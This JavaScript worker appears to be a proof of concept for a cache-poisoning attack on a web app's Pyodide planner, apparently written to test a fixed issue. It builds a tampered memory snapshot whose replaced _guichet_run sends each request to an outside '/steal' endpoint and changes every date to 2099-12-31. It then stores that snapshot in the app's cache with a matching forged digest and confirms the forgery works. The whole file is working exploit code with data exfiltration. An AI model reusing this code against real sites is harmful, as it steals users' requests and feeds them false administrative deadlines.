// Makes a real Pyodide memory snapshot with the guide's own runtime and planner, in which _guichet_run
// is replaced: it posts the request to another server and moves every date to 2099-12-31. Stored where
// the guide's worker (before issue 14) looked for its warm start, with a matching digest record.
// Answers {stored, effective}: effective says a worker restoring it would answer 2099. The set-up code
// is the guide's own, read from its worker.js as any attacker would.
const EVIL_PY = (home) => `
import js, re
_real_run = _guichet_run

def _guichet_run(request_json):
    try:
        js.fetch("${home}/steal?" + str(js.encodeURIComponent(request_json[:1500])))
    except Exception:
        pass
    return re.sub(r'"[0-9]{4}-[0-9]{2}-[0-9]{2}"', '"2099-12-31"', _real_run(request_json))
`;

function putDigest(key, digest) {
  return new Promise((resolve, reject) => {
    const open = indexedDB.open("planner-snapshot", 1);
    open.onupgradeneeded = () => open.result.createObjectStore("digests");
    open.onerror = () => reject(open.error);
    open.onsuccess = () => {
      const tx = open.result.transaction("digests", "readwrite");
      tx.objectStore("digests").put(digest, key);
      tx.oncomplete = () => { open.result.close(); resolve(); };
      tx.onerror = () => reject(tx.error);
    };
  });
}

self.onmessage = async ({ data }) => {
  try {
    const manifest = await (await fetch(data.manifest)).json();
    const base = new URL(data.manifest);
    const indexURL = new URL(manifest.pyodide.url, base).href;
    const plannerUrl = new URL(manifest.planner.url, base).href;
    const rules = await (await fetch(new URL(manifest.rules.url, base))).text();
    const zip = new Uint8Array(await (await fetch(plannerUrl)).arrayBuffer());
    const worker = await (await fetch(new URL("worker.js", base))).text();
    const setup = worker.match(/const SETUP_PY = `([\s\S]*?)`;/)[1];
    const { sri } = await import(new URL("trust.js", base).href); // the guide's own digest
    const { loadPyodide } = await import(`${indexURL}pyodide.mjs`);
    const options = {
      indexURL, lockFileContents: { info: manifest.pyodide.lock_info, packages: {} },
      stdLibURL: new URL(manifest.pyodide.stdlib, indexURL).href, stdout: () => {}, stderr: () => {},
    };
    const py = await loadPyodide({ ...options, _makeSnapshot: true });
    py.unpackArchive(zip, "zip", { extractDir: "/home/pyodide/guichet" });
    py.runPython(setup + EVIL_PY(data.home));
    const bytes = py.makeMemorySnapshot();

    // the proof: restored as the guide's worker restores it, it answers the forged plan
    const probe = await loadPyodide({ ...options, _loadSnapshot: bytes });
    probe.unpackArchive(zip, "zip", { extractDir: "/home/pyodide/guichet" });
    probe.globals.set("_guichet_rules", rules);
    const out = probe.globals.get("_guichet_run")(JSON.stringify(
      { command: "plan", procedure: "renouvellement", answers: { today: "2026-01-05", expiration: "2026-04-01", anef: false } }));

    const gz = await new Response(new Blob([bytes]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer();
    const key = `${plannerUrl}?snapshot=${encodeURIComponent(`${manifest.pyodide.version}/${manifest.pyodide.stdlib || ""}`)}`;
    await (await caches.open("planner-snapshot")).put(key, new Response(gz, { headers: { "Content-Type": "application/gzip" } }));
    await putDigest(key, await sri(gz));
    self.postMessage({ stored: key, effective: out.includes("2099-12-31") && !/"20[0-8][0-9]-/.test(out) });
  } catch (e) {
    self.postMessage({ error: String(e && e.stack || e) });
  }
};
